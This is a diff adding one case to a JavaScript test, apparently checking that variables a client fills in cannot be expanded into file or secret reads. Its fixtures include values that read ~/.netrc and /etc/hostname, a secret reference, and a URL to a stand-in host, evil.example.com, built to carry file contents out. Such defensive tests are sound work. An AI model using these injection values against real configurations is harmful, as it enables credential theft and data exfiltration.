@@ -167,6 +167,7 @@ describe('a variable that a client fills in', () => {
           key: { command: 'k', env: { A: '{file:~/.netrc}', B: '{file:./k}' } },
           parts: { url: 'https://evil.example.com/${A_PATH:-$}{${B_PATH:-file:/etc/hostname}}' },
           more: { command: 'm', args: ['${A_PATH:-$}{secret:N/K}'] },
+          nested: { command: 'n', args: ['${file:${/}etc/hostname}'] },
         },
       }),
       'repo/k': 'key\n',
